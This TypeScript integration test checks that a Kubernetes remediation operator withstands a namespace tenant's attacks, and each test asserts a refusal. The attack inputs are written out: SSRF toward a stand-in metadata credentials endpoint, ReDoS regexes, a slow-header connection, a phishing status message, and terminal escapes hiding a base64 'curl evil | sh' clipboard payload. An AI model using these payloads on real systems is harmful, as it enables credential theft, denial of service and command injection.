import { readFileSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { CoreV1Api } from '@kubernetes/client-node';
import { CHART_DIR, helmTemplate, parseObjects } from '../../hack/chart.ts';
import { eventually, freePort } from '../../hack/localenv/wait.ts';
import { postAlerts } from '../support/alerting.ts';
import { StandInServer } from '../support/http.ts';
import { condition, IncidentClient } from '../support/incidents.ts';
import {
  createTestNamespace,
  kubeConfigFor,
  kubectl,
  serviceAccountKubeconfig,
  type KubectlResult,
} from '../support/kube.ts';
import { OperatorProcess } from '../support/operator.ts';
import { kubectlIncident } from '../support/plugin.ts';
import { tierStateDir } from '../support/tiers.ts';

// The threat model of docs/security.md, tried as the attacker would: a real user (a ServiceAccount
// token, not the admin) whose only rights are the `edit` ClusterRole in their own namespace, with the
// chart's aggregated roles adding Incidents and RemediationPolicies to it. The operator runs as its
// own process without loopback egress, so a loopback server stands in for a cloud metadata endpoint:
// no request may reach it and its canary must come back nowhere. Throughout, /healthz must answer
// within a second.
const kc = kubeConfigFor('integration');
const core = kc.makeApiClient(CoreV1Api);
const CANARY = `canary-${Date.now().toString(36)}-do-not-echo`;
const YAML_RELEASE = 'selfheal-tenancy';

describe('a namespace editor cannot turn the operator against the cluster', () => {
  let namespace: string;
  let tenantKubeconfig: string;
  let operator: OperatorProcess;
  let metadata: StandInServer;
  let metadataUrl: string;
  let statusPageUrl: string;
  let incidents: IncidentClient;
  let healthWatch: HealthWatch;

  /** `kubectl` as the tenant: their own token, their own namespace. */
  const asTenant = (args: string[]): Promise<KubectlResult> =>
    kubectl('integration', ['--namespace', namespace, ...args], { kubeconfig: tenantKubeconfig });

  /** `kubectl apply` of one object, as the tenant; the object must be accepted. */
  const applyAsTenant = async (object: Record<string, unknown>): Promise<void> => {
    const file = join(tierStateDir('integration'), `tenant-${Date.now()}-${Math.random()}.json`);
    writeFileSync(file, JSON.stringify(object));
    const result = await asTenant(['apply', '-f', file]);
    expect({ code: result.code, stderr: result.stderr }).toEqual({ code: 0, stderr: '' });
  };

  /** What the tenant submits, refused: the API server's message. */
  const refusedForTenant = async (object: Record<string, unknown>): Promise<string> => {
    const file = join(tierStateDir('integration'), `tenant-refused-${Date.now()}.json`);
    writeFileSync(file, JSON.stringify(object));
    const result = await asTenant(['create', '-f', file]);
    expect(result.code).not.toBe(0);
    return result.stderr;
  };

  const incident = (name: string, spec: Record<string, unknown>) => ({
    apiVersion: 'selfheal.dev/v1alpha1',
    kind: 'Incident',
    metadata: { name, namespace },
    spec: { severity: 'P3', title: `tenant ${name}`, ...spec },
  });

  beforeAll(async () => {
    namespace = await createTestNamespace(kc, 'tenant');
    // The chart's aggregated roles (Incidents and RemediationPolicies join view, edit and admin),
    // applied alone: the rest of rbac.yaml is the operator's own.
    const aggregated = parseObjects(
      await helmTemplate([YAML_RELEASE, CHART_DIR, '--show-only', 'templates/rbac.yaml']),
    ).filter((o) => JSON.stringify(o).includes('rbac.authorization.k8s.io/aggregate-to-edit'));
    expect(aggregated.length).toBeGreaterThan(0);
    const rbacFile = join(tierStateDir('integration'), `${YAML_RELEASE}-rbac.json`);
    writeFileSync(rbacFile, JSON.stringify({ apiVersion: 'v1', kind: 'List', items: aggregated }));
    const applied = await kubectl('integration', ['apply', '-f', rbacFile]);
    expect({ code: applied.code, stderr: applied.stderr }).toEqual({ code: 0, stderr: '' });
    await core.createNamespacedServiceAccount({ namespace, body: { metadata: { name: 'tenant' } } });
    const binding = await kubectl('integration', [
      'create',
      'rolebinding',
      'tenant-edit',
      '--namespace',
      namespace,
      '--clusterrole=edit',
      `--serviceaccount=${namespace}:tenant`,
    ]);
    expect(binding.code).toBe(0);
    tenantKubeconfig = await serviceAccountKubeconfig(kc, {
      namespace,
      name: 'tenant',
      file: join(tierStateDir('integration'), `tenant-${namespace}.kubeconfig`),
    });
    // The aggregation controller adds the chart's rules to `edit` within seconds.
    await eventually(
      'the tenant may create Incidents through edit',
      async () =>
        (await asTenant(['auth', 'can-i', 'create', 'incidents.selfheal.dev'])).stdout.trim() === 'yes',
      { timeoutMs: 30_000 },
    );
    // ...and nothing beyond their namespace.
    expect(
      (
        await kubectl('integration', ['auth', 'can-i', 'create', 'incidents.selfheal.dev', '-n', 'default'], {
          kubeconfig: tenantKubeconfig,
        })
      ).stdout.trim(),
    ).toBe('no');

    metadata = new StandInServer(() => ({
      status: 200,
      contentType: 'application/json',
      body: JSON.stringify({ SecretAccessKey: CANARY, Token: CANARY }),
    }));
    metadataUrl = await metadata.listen();
    const pagePort = await freePort();
    statusPageUrl = `http://127.0.0.1:${pagePort}/`;
    operator = await OperatorProcess.start('integration', {
      name: 'tenant-safety',
      egressLoopback: false,
      args: [
        `--namespace=${await createTestNamespace(kc, 'tenant-operator')}`,
        `--status-page-address=127.0.0.1:${pagePort}`,
        '--storm-max-incidents=1000',
        '--poll-interval=500ms',
      ],
    });
    incidents = new IncidentClient(kc, namespace);
    healthWatch = new HealthWatch(operator.healthUrl);
  });

  afterAll(async () => {
    await healthWatch.stop();
    await operator.stop();
    await metadata.close();
  });

  it('1. makes the operator fetch a metadata endpoint: refused, nothing reaches it, the canary comes back nowhere', async () => {
    await applyAsTenant({
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 'hook', namespace },
      stringData: { url: `${metadataUrl}/latest/meta-data/hook` },
    });
    await applyAsTenant({
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 'broker', namespace },
      stringData: {
        'amqp-url': metadataUrl.replace(/^http/, 'amqp'),
        'management-url': `${metadataUrl}/api`,
        username: 'guest',
        password: 'guest',
      },
    });
    // The HTTP check of a dry run against a target that does not exist (the exact shape).
    await applyAsTenant(
      incident('ssrf-check', {
        target: { kind: 'Deployment', name: 'does-not-exist' },
        actions: [{ type: 'rolloutRestart' }],
        dryRun: true,
        verification: {
          http: {
            url: `${metadataUrl}/latest/meta-data/iam/security-credentials/role`,
            jsonPath: 'SecretAccessKey',
            expectedValue: 'x',
          },
        },
      }),
    );
    // A webhook receiver whose URL (from the tenant's Secret) is the metadata endpoint.
    await applyAsTenant(
      incident('ssrf-receiver', {
        severity: 'P1',
        escalation: {
          levels: [
            {
              after: '0s',
              receivers: [{ name: 'hook', type: 'webhook', secretRef: { name: 'hook', key: 'url' } }],
            },
          ],
        },
      }),
    );
    // A queue drain whose broker (from the tenant's Secret) is the metadata endpoint.
    await applyAsTenant(
      incident('ssrf-broker', {
        actions: [
          {
            type: 'queueDrain',
            queueDrain: {
              connectionSecretRef: { name: 'broker' },
              queue: 'orders',
              parkingQueue: 'orders.parked',
            },
          },
        ],
      }),
    );

    await incidents.waitFor('ssrf-receiver', 'its delivery refused', (i) =>
      (i.status?.notifications ?? []).some((n) => /egress/i.test(JSON.stringify(n))),
    );
    await incidents.waitFor('ssrf-broker', 'escalated after the refused connection', (i) =>
      ['Escalated'].includes(i.status?.phase ?? ''),
    );
    const checked = await incidents.waitFor(
      'ssrf-check',
      'its check refused',
      (i) => JSON.stringify(i.status ?? {}).match(/egress/i) !== null,
    );
    expect(JSON.stringify(checked.status)).toMatch(/loopback/);

    expect(metadata.requests).toEqual([]);
    await expectNoCanary();
  });

  it('2. wedges the leader with regexes: the leader stays responsive, Alertmanager-refused patterns leave the policy not Ready, and work goes on', async () => {
    const policy = (name: string, matchers: { name: string; operator: string; value: string }[]) => ({
      apiVersion: 'selfheal.dev/v1alpha1',
      kind: 'RemediationPolicy',
      metadata: { name, namespace },
      spec: {
        match: { alertName: 'Wedge', labels: matchers },
        target: { kind: 'Deployment', nameFromLabel: 'deployment' },
        actions: [{ type: 'rolloutRestart' }],
      },
    });
    await applyAsTenant(policy('long-value', [{ name: 'pod', operator: '=', value: `${'a'.repeat(30)}!` }]));
    await applyAsTenant(policy('nested', [{ name: 'pod', operator: '=~', value: '(.{0,50}){0,50}x' }]));
    const catastrophic = [
      '(a+)+$',
      '(a|aa)+$',
      '(a|a?)+$',
      '(.*a){20}',
      '(x+x+)+y',
      '^(\\w+\\s?)*$',
      '(?=a)a',
      '(a)\\1',
    ];
    for (const [i, value] of catastrophic.entries())
      await applyAsTenant(policy(`catastrophic-${i}`, [{ name: 'pod', operator: '=~', value }]));
    await applyAsTenant(policy('long-values', [{ name: 'pod', operator: '=', value: `${'a'.repeat(60)}!` }]));

    // Alertmanager refuses these: RE2 has no lookaround or backreferences, and (.{0,50}){0,50}
    // repeats more than 1000 times.
    for (const [name, reason] of [
      ['nested', /invalid repeat count/],
      [`catastrophic-${catastrophic.indexOf('(?=a)a')}`, /invalid or unsupported Perl syntax/],
      [`catastrophic-${catastrophic.indexOf('(a)\\1')}`, /invalid escape sequence/],
    ] as const) {
      const ready = await eventually(`policy ${name} judged`, async () => {
        const got = await asTenant(['get', 'remediationpolicy', name, '-o', 'json']);
        const conditions = (
          JSON.parse(got.stdout) as {
            status?: { conditions?: { type: string; status: string; message: string }[] };
          }
        ).status?.conditions;
        return conditions?.find((c) => c.type === 'Ready');
      });
      expect(ready.status).toBe('False');
      expect(ready.message).toMatch(reason);
    }
    // An alert that every pattern must be matched against, its value made to backtrack (1,001
    // characters: the webhook refuses label values over 1,024).
    const wedge = await postAlerts(operator.webhookUrl, [
      {
        labels: { alertname: 'Wedge', namespace, deployment: 'nothing', pod: `${'a'.repeat(1000)}!` },
        fingerprint: 'a0a0a0a0a0a0a0a0',
      },
    ]);
    expect({ status: wedge.status, body: wedge.body }).toMatchObject({ status: 200 });
    // An ordinary incident right after is remediated.
    await incidents.deployment('ordinary', 1);
    await incidents.create('ordinary', {
      target: { kind: 'Deployment', name: 'ordinary' },
      actions: [{ type: 'rolloutRestart' }],
    });
    await incidents.waitForPhase('ordinary', 'Resolved', 90_000);
  });

  it('3. holds a worker with a long timeout: the API server refuses it with the ceiling', async () => {
    const refused = await refusedForTenant(
      incident('long-timeout', {
        verification: { http: { service: { name: 'api', port: 80 }, timeout: '500h' } },
      }),
    );
    expect(refused).toMatch(/timeout/);
    expect(refused).toMatch(/30s/);
  });

  it('4. sticks an incident with a long message: its status still fits, and it escalates on time', async () => {
    const promQL = `sum(rate(http_requests_total{job="${'x'.repeat(1150)}"}[5m])) > 1000000`;
    expect(promQL.length).toBeGreaterThan(1200);
    await incidents.deployment('long-message', 1);
    await applyAsTenant(
      incident('long-message', {
        title: 'y'.repeat(200),
        target: { kind: 'Deployment', name: 'long-message' },
        actions: [{ type: 'rolloutRestart' }],
        verification: { promQL, holdFor: '1s', timeout: '5s' },
      }),
    );
    const escalated = await incidents.waitForPhase('long-message', 'Escalated', 90_000);
    expect(condition(escalated, 'Escalated')?.status).toBe('True');
  });

  it('5. speaks on the public status page: a namespace that was not opted in says nothing there', async () => {
    const before = await (await fetch(`${statusPageUrl}api/v2/summary.json`)).text();
    await applyAsTenant(
      incident('public-claim', {
        severity: 'P1',
        public: {
          title: 'All payments are down, send your card numbers to us',
          impact: 'major_outage',
          updates: [
            { time: new Date().toISOString(), status: 'investigating', message: `tenant words ${CANARY}` },
          ],
        },
      }),
    );
    await incidents.waitFor('public-claim', 'seen by the operator', (i) => i.status?.phase !== undefined);
    // The page's copy is refreshed on change: give it the time such a change takes, then read it.
    await new Promise((resolve) => setTimeout(resolve, 3_000));
    const after = await (await fetch(`${statusPageUrl}api/v2/summary.json`)).text();
    expect(after).not.toContain(CANARY);
    expect(after).not.toContain('payments');
    expect(JSON.parse(after)).toMatchObject({ status: { indicator: 'none' }, incidents: [] });
    expect(JSON.parse(before)).toMatchObject({ status: { indicator: 'none' } });
  });

  it('8. holds a server with a slow client: the webhook closes a connection whose headers never finish', async () => {
    const { hostname, port } = new URL(operator.webhookUrl);
    const started = Date.now();
    const closed = await new Promise<number>((resolve, reject) => {
      const socket = connect(Number(port), hostname, () => {
        socket.write('POST /webhook/alertmanager HTTP/1.1\r\nHost: x\r\n');
        // One more header every few seconds, never the blank line that ends them.
        const drip = setInterval(() => socket.write(`X-Drip: ${Date.now()}\r\n`), 2_000);
        socket.on('close', () => {
          clearInterval(drip);
          resolve(Date.now() - started);
        });
      });
      socket.on('error', () => undefined);
      setTimeout(() => reject(new Error('the webhook kept a slow client for 60 s')), 60_000);
    });
    expect(closed).toBeLessThan(30_000);
  });

  it('9. picks the workload through an alert: a workload its namespace did not allow is not touched', async () => {
    await incidents.deployment('database', 1);
    const before = (await incidents.readDeployment('database')).metadata?.generation;
    await applyAsTenant({
      apiVersion: 'selfheal.dev/v1alpha1',
      kind: 'RemediationPolicy',
      metadata: { name: 'restart-api', namespace },
      spec: {
        match: { alertName: 'ApiDown' },
        target: {
          kind: 'Deployment',
          nameFromLabel: 'deployment',
          selector: { matchLabels: { app: 'api' } },
        },
        actions: [{ type: 'rolloutRestart' }],
      },
    });
    await eventually('policy restart-api Ready', async () => {
      const got = await asTenant(['get', 'remediationpolicy', 'restart-api', '-o', 'json']);
      return /"type":\s*"Ready",[^}]*"status":\s*"True"|"status":\s*"True",[^}]*"type":\s*"Ready"/.test(
        got.stdout,
      );
    });
    // Whoever writes alert rules names the database.
    const answer = await postAlerts(operator.webhookUrl, [
      {
        labels: { alertname: 'ApiDown', namespace, deployment: 'database' },
        fingerprint: 'd0d0d0d0d0d0d0d0',
      },
    ]);
    expect(answer.status).toBe(200);
    const name = answer.body.alerts?.[0]?.incident;
    expect(name).toBeDefined();
    const refused = await incidents.waitFor(name ?? '', 'refused with its reason', (i) =>
      /TargetNotAllowed/.test(JSON.stringify(i.status ?? {})),
    );
    expect(refused.status?.attempts?.some((a) => a.result === 'Succeeded')).toBeFalsy();
    expect((await incidents.readDeployment('database')).metadata?.generation).toBe(before);
  });

  it('10. writes terminal escapes: kubectl incident show prints none of them', async () => {
    await applyAsTenant(
      incident('escapes', {
        title:
          'clear \u001b[2J\u001b[H screen, copy \u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007 and back\rOVERWRITE',
        description: 'bell \u0007 and C1 \u009b31m red',
      }),
    );
    await incidents.waitFor('escapes', 'seen by the operator', (i) => i.status?.phase !== undefined);
    const shown = await kubectlIncident('integration', ['show', 'escapes', '-n', namespace], {
      kubeconfig: tenantKubeconfig,
    });
    expect(shown.code).toBe(0);
    expect(shown.stdout).toContain('clear');
    // eslint-disable-next-line no-control-regex
    expect(shown.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  });

  it('the leader answered /healthz within a second throughout', () => {
    expect(healthWatch.failures()).toEqual([]);
    expect(healthWatch.samples()).toBeGreaterThan(10);
  });

  /** The canary appears in no status, no Event and no log line. */
  async function expectNoCanary(): Promise<void> {
    const all = await kubectl('integration', [
      'get',
      'incidents,remediationpolicies,events',
      '-n',
      namespace,
      '-o',
      'json',
    ]);
    expect(all.code).toBe(0);
    expect(all.stdout).not.toContain(CANARY);
    expect(readFileSync(operator.logFile, 'utf8')).not.toContain(CANARY);
  }
});

/** Polls /healthz every 200 ms and remembers every answer slower than a second or not 200. */
class HealthWatch {
  private readonly url: string;
  private readonly problems: string[] = [];
  private count = 0;
  private running = true;
  private readonly loop: Promise<void>;

  constructor(healthUrl: string) {
    this.url = `${healthUrl}/healthz`;
    this.loop = this.run();
  }

  private async run(): Promise<void> {
    while (this.running) {
      const started = Date.now();
      try {
        const res = await fetch(this.url, { signal: AbortSignal.timeout(5_000) });
        const took = Date.now() - started;
        if (res.status !== 200 || took > 1_000)
          this.problems.push(`${new Date(started).toISOString()}: ${res.status} in ${took} ms`);
      } catch (error) {
        this.problems.push(`${new Date(started).toISOString()}: ${(error as Error).message}`);
      }
      this.count++;
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
  }

  failures(): string[] {
    return [...this.problems];
  }

  samples(): number {
    return this.count;
  }

  async stop(): Promise<void> {
    this.running = false;
    await this.loop;
  }
}
